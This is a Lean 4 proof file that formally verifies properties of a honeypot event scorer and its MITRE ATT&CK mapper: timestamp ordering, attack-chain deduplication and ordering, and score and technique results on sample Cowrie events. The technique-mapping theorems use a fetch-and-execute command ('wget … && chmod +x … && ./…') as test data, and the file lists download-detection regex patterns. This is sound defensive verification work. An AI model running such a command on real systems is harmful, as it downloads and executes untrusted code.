/-- Transitivity of the fraction comparison. -/
theorem Frac.ble_trans {a b c : Frac} (h1 : a.ble b = true)
    (h2 : b.ble c = true) : a.ble c = true := by
  unfold Frac.ble at h1 h2 ⊢
  simp only [decide_eq_true_eq] at h1 h2 ⊢
  have hb := b.den_cast_pos
  have h1' := mul_le_mul_of_nonneg_right h1 c.den_cast_nonneg
  have h2' := mul_le_mul_of_nonneg_right h2 a.den_cast_nonneg
  have h3 : a.num * (c.den : Int) * (b.den : Int) ≤
      c.num * (a.den : Int) * (b.den : Int) := by nlinarith
  exact le_of_mul_le_mul_right h3 hb

/-- Totality of the fraction comparison. -/
theorem Frac.ble_total (a b : Frac) : a.ble b = true ∨ b.ble a = true := by
  unfold Frac.ble
  rcases le_total (a.num * (b.den : Int)) (b.num * (a.den : Int)) with h | h
  · exact Or.inl (decide_eq_true h)
  · exact Or.inr (decide_eq_true h)

/-- Reflexivity of the timestamp sort key comparison. -/
theorem tsLe_refl (a : Option Frac) : tsLe a a = true := by
  cases a with
  | none => rfl
  | some x => exact Frac.ble_refl x

/-- Transitivity of the timestamp sort key comparison. -/
theorem tsLe_trans {a b c : Option Frac} (h1 : tsLe a b = true)
    (h2 : tsLe b c = true) : tsLe a c = true := by
  cases a with
  | none => rfl
  | some x =>
    cases c with
    | none =>
      cases b with
      | none => exact absurd h1 (by simp [tsLe])
      | some y => exact absurd h2 (by simp [tsLe])
    | some z =>
      cases b with
      | none => exact absurd h1 (by simp [tsLe])
      | some y => exact Frac.ble_trans h1 h2

/-- Totality of the timestamp sort key comparison. -/
theorem tsLe_total (a b : Option Frac) : (tsLe a b || tsLe b a) = true := by
  cases a with
  | none => rfl
  | some x =>
    cases b with
    | none => rfl
    | some y =>
      rcases Frac.ble_total x y with h | h <;> simp [tsLe, h]

/-- The inner fold of `get_attack_chain` over one event's detail records:
the seen-tactics list stays the list of chain tactic ids, stays
duplicate-free, and the chain is extended only with steps carrying this
event's timestamp and a tactic id of one of its detail records. -/
theorem chainAdd_foldl (ev : Event) :
    ∀ (ds : List TechDetail) (acc : List ChainStep × List String),
      acc.2 = acc.1.map ChainStep.tactic_id →
      (ds.foldl (chainAdd ev) acc).2 =
        (ds.foldl (chainAdd ev) acc).1.map ChainStep.tactic_id ∧
      (acc.2.Nodup → (ds.foldl (chainAdd ev) acc).2.Nodup) ∧
      ∃ new, (ds.foldl (chainAdd ev) acc).1 = acc.1 ++ new ∧
        ∀ s ∈ new, s.timestamp = ev.timestamp ∧
          s.tactic_id ∈ ds.map TechDetail.tactic_id := by
  intro ds
  induction ds with
  | nil =>
    intro acc h1
    exact ⟨h1, id, [], by simp, by simp⟩
  | cons d ds ih =>
    intro acc h1
    rw [List.foldl_cons]
    by_cases hmem : d.tactic_id ∈ acc.2
    · have hstep : chainAdd ev acc d = acc := by
        unfold chainAdd; rw [if_pos hmem]
      rw [hstep]
      obtain ⟨g1, g2, new, hnew, hmemnew⟩ := ih acc h1
      exact ⟨g1, g2, new, hnew, fun s hs =>
        ⟨(hmemnew s hs).1, List.mem_cons_of_mem _ (hmemnew s hs).2⟩⟩
    · have hstep : chainAdd ev acc d =
          (acc.1 ++ [⟨d.tactic_name, d.tactic_id, d.technique_name,
             d.technique_id, ev.timestamp, evidenceOf ev⟩],
           acc.2 ++ [d.tactic_id]) := by
        unfold chainAdd; rw [if_neg hmem]
      rw [hstep]
      have h1' : (acc.1 ++ [(⟨d.tactic_name, d.tactic_id, d.technique_name,
          d.technique_id, ev.timestamp, evidenceOf ev⟩ : ChainStep)],
          acc.2 ++ [d.tactic_id]).2 =
          (acc.1 ++ [(⟨d.tactic_name, d.tactic_id, d.technique_name,
          d.technique_id, ev.timestamp, evidenceOf ev⟩ : ChainStep)],
          acc.2 ++ [d.tactic_id]).1.map ChainStep.tactic_id := by
        simp [h1]
      obtain ⟨g1, g2, new, hnew, hmemnew⟩ := ih _ h1'
      refine ⟨g1, ?_, ⟨d.tactic_name, d.tactic_id, d.technique_name,
          d.technique_id, ev.timestamp, evidenceOf ev⟩ :: new, ?_, ?_⟩
      · intro hnd
        apply g2
        refine List.Nodup.append hnd (List.nodup_singleton _) ?_
        intro x hx hy
        rw [List.mem_singleton] at hy
        subst hy
        exact hmem hx
      · rw [hnew]; simp
      · intro s hs
        rcases List.mem_cons.mp hs with rfl | hs'
        · exact ⟨rfl, List.mem_cons_self _ _⟩
        · exact ⟨(hmemnew s hs').1, List.mem_cons_of_mem _ (hmemnew s hs').2⟩

/-- The technique details reported by `map_event` all carry catalog tactic
ids. -/
theorem map_event_tactic_mem {ev : Event} {d : TechDetail}
    (h : d ∈ (map_event ev).technique_details) :
    d.tactic_id ∈ TACTICS.map Prod.fst := by
  have hd : (map_event ev).technique_details =
      specFirstMatchDetails (combinedText ev) :=
    congrArg MitreMapped.technique_details (map_event_char ev)
  rw [hd] at h
  exact specDetails_tactic_mem h

/-- The outer fold of `get_attack_chain` over a time-sorted event list keeps
the chain's tactic ids duplicate-free and drawn from the tactic catalog, and
keeps the chain's timestamps nondecreasing. -/
theorem chain_foldl :
    ∀ (evs : List Event) (acc : List ChainStep × List String),
      acc.2 = acc.1.map ChainStep.tactic_id →
      acc.2.Nodup →
      (∀ s ∈ acc.1, s.tactic_id ∈ TACTICS.map Prod.fst) →
      (∀ s ∈ acc.1, ∀ e ∈ evs, tsLe s.timestamp e.timestamp = true) →
      List.Pairwise (fun a b : Event => tsLe a.timestamp b.timestamp = true) evs →
      List.Pairwise (fun s t : ChainStep =>
        tsLe s.timestamp t.timestamp = true) acc.1 →
      ((evs.foldl chainStep acc).1.map ChainStep.tactic_id).Nodup ∧
      (∀ s ∈ (evs.foldl chainStep acc).1,
        s.tactic_id ∈ TACTICS.map Prod.fst) ∧
      List.Pairwise (fun s t : ChainStep =>
        tsLe s.timestamp t.timestamp = true) (evs.foldl chainStep acc).1 := by
  intro evs
  induction evs with
  | nil =>
    intro acc h1 h2 h3 _ _ h6
    simp only [List.foldl_nil]
    refine ⟨?_, h3, h6⟩
    rw [← h1]
    exact h2
  | cons e evs ih =>
    intro acc h1 h2 h3 h4 h5 h6
    rw [List.foldl_cons]
    obtain ⟨g1, g2, new, hnew, hmemnew⟩ :=
      chainAdd_foldl e (map_event e).technique_details acc h1
    have hpc := List.pairwise_cons.mp h5
    refine ih (chainStep acc e) g1 (g2 h2) ?_ ?_ hpc.2 ?_
    · intro s hs
      rw [show (chainStep acc e).1 =
            acc.1 ++ new from hnew] at hs
      rcases List.mem_append.mp hs with hs' | hs'
      · exact h3 s hs'
      · rcases List.mem_map.mp (hmemnew s hs').2 with ⟨d, hd, hdt⟩
        rw [← hdt]
        exact map_event_tactic_mem hd
    · intro s hs e' he'
      rw [show (chainStep acc e).1 = acc.1 ++ new from hnew] at hs
      rcases List.mem_append.mp hs with hs' | hs'
      · exact h4 s hs' e' (List.mem_cons_of_mem _ he')
      · rw [(hmemnew s hs').1]
        exact hpc.1 e' he'
    · rw [show (chainStep acc e).1 = acc.1 ++ new from hnew]
      refine List.pairwise_append.mpr ⟨h6, ?_, ?_⟩
      · refine List.pairwise_of_forall_mem_list ?_
        intro s hs t ht
        rw [(hmemnew s hs).1, (hmemnew t ht).1]
        exact tsLe_refl _
      · intro s hs t ht
        rw [(hmemnew t ht).1]
        exact h4 s hs e (List.mem_cons_self _ _)

/-- Claim C6: the attack chain has no two steps with the same tactic id, its
length never exceeds the size of the tactic catalog, and its steps appear in
the chronological order of the events sorted ascending by timestamp (a
missing timestamp sorting earliest, per `tsLe`). -/
theorem claim_C6 (events : List Event) :
    ((get_attack_chain events).map ChainStep.tactic_id).Nodup ∧
    (get_attack_chain events).length ≤ TACTICS.length ∧
    List.Pairwise (fun s t : ChainStep => tsLe s.timestamp t.timestamp = true)
      (get_attack_chain events) := by
  unfold get_attack_chain
  have hsorted : List.Pairwise
      (fun a b : Event => tsLe a.timestamp b.timestamp = true)
      (events.mergeSort (fun a b => tsLe a.timestamp b.timestamp)) :=
    @List.sorted_mergeSort Event (fun a b => tsLe a.timestamp b.timestamp)
      (fun a b c h1 h2 => tsLe_trans h1 h2)
      (fun a b => tsLe_total a.timestamp b.timestamp) events
  obtain ⟨g1, g2, g3⟩ :=
    chain_foldl (events.mergeSort (fun a b => tsLe a.timestamp b.timestamp))
      ([], []) rfl List.nodup_nil (by intro s hs; simp at hs)
      (by intro s hs; simp at hs) hsorted List.Pairwise.nil
  refine ⟨g1, ?_, g3⟩
  calc ((events.mergeSort (fun a b => tsLe a.timestamp b.timestamp)).foldl
          chainStep ([], [])).1.length
      = (((events.mergeSort (fun a b => tsLe a.timestamp b.timestamp)).foldl
          chainStep ([], [])).1.map ChainStep.tactic_id).length :=
        (List.length_map _ _).symm
    _ = (((events.mergeSort (fun a b => tsLe a.timestamp b.timestamp)).foldl
          chainStep ([], [])).1.map ChainStep.tactic_id).toFinset.card :=
        (List.toFinset_card_of_nodup g1).symm
    _ ≤ (TACTICS.map Prod.fst).toFinset.card := by
        refine Finset.card_le_card ?_
        intro x hx
        rw [List.mem_toFinset] at hx ⊢
        rcases List.mem_map.mp hx with ⟨s, hs, rfl⟩
        exact g2 s hs
    _ ≤ (TACTICS.map Prod.fst).length := List.toFinset_card_le _
    _ = TACTICS.length := List.length_map _ _
/- ==================== concrete-evaluation theorems ==================== -/

set_option maxHeartbeats 1000000 in
/-- Claim C1 counterexample: on the command event `evTrunc` the combined
value is 37.5; the source reports final_score 37 (truncation), while the
claim's `clamp(0, 100, round(...))` formula yields 38. -/
theorem claim_C1_counterexample :
    (calculate_score evTrunc).breakdown.final_score = 37 ∧
    specFinalRound ((calculate_score evTrunc).breakdown) = 38 ∧
    (calculate_score evTrunc).breakdown.final_score ≠
      specFinalRound ((calculate_score evTrunc).breakdown) := by
  refine ⟨by decide, by decide, by decide⟩
set_option maxHeartbeats 1000000 in
/-- Claim C3: the event `{eventid: "cowrie.login.success", input: "",
reputation: {in_blocklist: true}}` is classified brute_force_success with
attack_type_score 40, success multiplier 1.5, ip_reputation_score 20,
final_score 80 and severity "critical". -/
theorem claim_C3 :
    (calculate_score evLogin).attack_type = "brute_force_success" ∧
    (calculate_score evLogin).breakdown.attack_type_score = 40 ∧
    (calculate_score evLogin).breakdown.success_multiplier = threeHalves ∧
    (calculate_score evLogin).breakdown.ip_reputation_score = 20 ∧
    (calculate_score evLogin).breakdown.final_score = 80 ∧
    (calculate_score evLogin).severity = "critical" := by
  refine ⟨by decide, by decide, rfl, by decide, by decide, by decide⟩
set_option maxHeartbeats 2000000 in
/-- Claim C4 counterexample: for the event carrying only the input
`"wget http://x/y && chmod +x y && ./y"` (no eventid), `map_event` maps
T1105 but does not map T1059 — none of T1059's patterns (`bash`, `sh\s`,
`python`, `perl`, `command\.input`) occurs in the combined text. -/
theorem claim_C4_counterexample :
    "T1105" ∈ (map_event evWgetBare).techniques ∧
    "T1059" ∉ (map_event evWgetBare).techniques := by
  have h : (map_event evWgetBare).techniques = ["T1071", "T1105"] := by decide
  rw [h]
  exact ⟨by decide, by decide⟩
set_option maxHeartbeats 2000000 in
/-- Claim C4 (amended): for the shell-honeypot command event (eventid
"cowrie.command.input") with input `"wget http://x/y && chmod +x y && ./y"`,
`map_event` maps technique T1105 (Ingress Tool Transfer) under tactic TA0011
and technique T1059 (Command and Scripting Interpreter) under tactic
TA0002. -/
theorem claim_C4 :
    ("T1105", "Ingress Tool Transfer", "TA0011") ∈
      (map_event evWgetCmd).technique_details.map
        (fun d => (d.technique_id, d.technique_name, d.tactic_id)) ∧
    ("T1059", "Command and Scripting Interpreter", "TA0002") ∈
      (map_event evWgetCmd).technique_details.map
        (fun d => (d.technique_id, d.technique_name, d.tactic_id)) ∧
    "TA0011" ∈ (map_event evWgetCmd).tactics ∧
    "TA0002" ∈ (map_event evWgetCmd).tactics := by
  have hchar : (map_event evWgetCmd).technique_details =
      specFirstMatchDetails (combinedText evWgetCmd) :=
    congrArg MitreMapped.technique_details (map_event_char evWgetCmd)
  have htac : (map_event evWgetCmd).tactics =
      firstDedup [] ((specFirstMatchDetails (combinedText evWgetCmd)).map
        TechDetail.tactic_id) :=
    congrArg MitreMapped.tactics (map_event_char evWgetCmd)
  have hf1105 : (TECHNIQUE_MAPPINGS.get ⟨18, by decide⟩).2.patterns.find?
      (fun p => rsearch p (combinedText evWgetCmd)) =
      some (Regex.cat (lit "wget") (Regex.cat wsR (lit "http"))) := by
    show ([Regex.cat (lit "wget") (Regex.cat wsR (lit "http")),
           Regex.cat (lit "curl") (Regex.cat dotStar (lit "-o")),
           Regex.cat (lit "scp") (Regex.cat dotStar (lit "download"))].find?
        (fun p => rsearch p (combinedText evWgetCmd))) = _
    rw [List.find?_cons_of_pos _ (by decide)]
  have hf1059 : (TECHNIQUE_MAPPINGS.get ⟨2, by decide⟩).2.patterns.find?
      (fun p => rsearch p (combinedText evWgetCmd)) =
      some (lit "command.input") := by
    show ([lit "bash", Regex.cat (lit "sh") wsR, lit "python", lit "perl",
           lit "command.input"].find?
        (fun p => rsearch p (combinedText evWgetCmd))) = _
    rw [List.find?_cons_of_neg _ (by decide), List.find?_cons_of_neg _ (by decide),
        List.find?_cons_of_neg _ (by decide), List.find?_cons_of_neg _ (by decide),
        List.find?_cons_of_pos _ (by decide)]
  have hm1105 : (⟨"T1105", "Ingress Tool Transfer", "TA0011",
      tacticName "TA0011",
      Regex.cat (lit "wget") (Regex.cat wsR (lit "http"))⟩ : TechDetail) ∈
      specFirstMatchDetails (combinedText evWgetCmd) := by
    refine List.mem_filterMap.mpr
      ⟨TECHNIQUE_MAPPINGS.get ⟨18, by decide⟩, List.get_mem _ 18 (by decide), ?_⟩
    simp only [hf1105, Option.map_some']
    rfl
  have hm1059 : (⟨"T1059", "Command and Scripting Interpreter", "TA0002",
      tacticName "TA0002", lit "command.input"⟩ : TechDetail) ∈
      specFirstMatchDetails (combinedText evWgetCmd) := by
    refine List.mem_filterMap.mpr
      ⟨TECHNIQUE_MAPPINGS.get ⟨2, by decide⟩, List.get_mem _ 2 (by decide), ?_⟩
    simp only [hf1059, Option.map_some']
    rfl
  refine ⟨?_, ?_, ?_, ?_⟩
  · rw [hchar]
    exact List.mem_map_of_mem
      (fun d => (d.technique_id, d.technique_name, d.tactic_id)) hm1105
  · rw [hchar]
    exact List.mem_map_of_mem
      (fun d => (d.technique_id, d.technique_name, d.tactic_id)) hm1059
  · rw [htac]
    exact firstDedup_mem _ [] _
      (Or.inr (List.mem_map_of_mem TechDetail.tactic_id hm1105))
  · rw [htac]
    exact firstDedup_mem _ [] _
      (Or.inr (List.mem_map_of_mem TechDetail.tactic_id hm1059))

